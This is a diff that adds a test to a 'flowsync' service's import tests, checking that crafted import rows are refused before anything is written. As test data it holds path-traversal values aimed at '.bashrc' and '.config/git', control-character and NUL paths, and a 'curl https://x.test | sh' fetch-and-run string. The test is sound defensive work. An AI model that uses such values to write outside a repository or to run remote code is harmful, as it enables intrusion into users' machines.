@@ -496,6 +496,97 @@ describe('flowsync service export and import', { timeout: 180_000 }, () => {
     }
   });
 
+  // Issue 36: the service's own rules for paths and hashes (those `sync_batch` applies) hold for an import too, or a
+  // crafted file puts in a team's database a path every agent taking the service's copy would write outside its
+  // repository. Refused before anything is written, naming the line, the row and why.
+  it('refuses a row the service would refuse (unsafe path, hash not of its content), writing nothing', async () => {
+    const lines = sqliteExport.trimEnd().split('\n');
+    /** The export with the first row of `table` whose `column` is `value` changed by `change`. */
+    const crafted = (
+      name: string,
+      table: string,
+      at: number,
+      value: unknown,
+      change: (row: unknown[]) => void,
+    ) => {
+      const index = lines.findIndex((line) => {
+        const parsed = JSON.parse(line) as { table?: string; row?: unknown[] };
+        return parsed.table === table && parsed.row?.[at] === value;
+      });
+      expect(index, name).toBeGreaterThan(0);
+      const { row } = JSON.parse(lines[index]!) as { row: unknown[] };
+      change(row);
+      const copy = [...lines];
+      copy[index] = JSON.stringify({ table, row });
+      const file = join(dir, `crafted-${name}.jsonl`);
+      writeFileSync(file, `${copy.join('\n')}\n`);
+      return { file, line: index + 1 };
+    };
+    // flow_files: id, flow_id, path, hash, content…; flows: id, repo_id, flow_path…; file_versions: version,
+    // repo_id, flow_path, path, hash, content…
+    const filePath = (path: string) => (row: unknown[]) => (row[2] = path);
+    const cases: [ReturnType<typeof crafted>, RegExp][] = [
+      [
+        crafted('dotdot', 'flow_files', 2, 'build.yml', filePath('a/../../../.bashrc')),
+        /the row of flow_files with id "[^"]+": its path "a\/\.\.\/\.\.\/\.\.\/\.bashrc" has a \.\. segment/,
+      ],
+      [
+        crafted('absolute', 'flow_files', 2, 'build.yml', filePath('/home/ada/.bashrc')),
+        /its path "\/home\/ada\/\.bashrc" is absolute/,
+      ],
+      [crafted('backslash', 'flow_files', 2, 'build.yml', filePath('..\\..\\x')), /contains a backslash/],
+      [
+        crafted('nul', 'flow_files', 2, 'build.yml', filePath('a\u0000b')),
+        /its path "a\\u0000b" contains a NUL byte/,
+      ],
+      [
+        crafted('control', 'flow_files', 2, 'build.yml', filePath('a\u001b[2Jb\nc')),
+        /its path "a\\u001b\[2Jb\\nc" contains a control character/,
+      ],
+      [crafted('empty-segment', 'flow_files', 2, 'build.yml', filePath('a//b')), /has an empty segment/],
+      [
+        crafted('flow-path', 'flows', 2, 'flows/ci', (row) => (row[2] = 'flows/../../.config/git')),
+        /the row of flows with id "[^"]+": its flow_path "flows\/\.\.\/\.\.\/\.config\/git" has a \.\. segment/,
+      ],
+      [
+        crafted('version-path', 'file_versions', 3, 'build.yml', (row) => (row[3] = '../../.bashrc')),
+        /the row of file_versions with version \d+: its path "\.\.\/\.\.\/\.bashrc" has a \.\. segment/,
+      ],
+      [
+        crafted('file-hash', 'flow_files', 2, 'build.yml', (row) => (row[4] = 'curl https://x.test | sh\n')),
+        /the row of flow_files with id "[^"]+": has a hash that is not the SHA-256 of its content/,
+      ],
+      [
+        crafted(
+          'version-hash',
+          'file_versions',
+          3,
+          'build.yml',
+          (row) => (row[5] = 'curl https://x.test | sh\n'),
+        ),
+        /the row of file_versions with version \d+: has a hash that is not the SHA-256 of its content/,
+      ],
+    ];
+    for (const [{ file, line }, reason] of cases) {
+      const url = await cluster.createDatabase();
+      const sqlite = join(dir, `never-${outputs.length}.db`);
+      for (const db of [sqlite, url]) {
+        const refused = await flowsync('service', 'import', '--db', db, '--in', file);
+        expect(refused.code, file).toBe(2);
+        expect(refused.stderr, file).toMatch(new RegExp(`^flowsync: \\S+ is refused at line ${line}: `));
+        expect(refused.stderr, file).toMatch(reason);
+        expect(refused.stderr, file).toMatch(/, which the service refuses\. Nothing was imported\.\n$/);
+        expect(refused.stderr.trim().split('\n'), file).toHaveLength(1);
+      }
+      // Nothing written: not even the schema.
+      expect(existsSync(sqlite)).toBe(false);
+      expect(
+        readPostgres(url)("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"),
+      ).toEqual([]);
+      await cluster.dropDatabase(url);
+    }
+  });
+
   it('refuses to overwrite an export without --force, and names a database it cannot open without its password', async () => {
     const out = join(dir, 'sqlite.jsonl');
     const again = await flowsync('service', 'export', '--db', svc.dbPath, '--out', out);
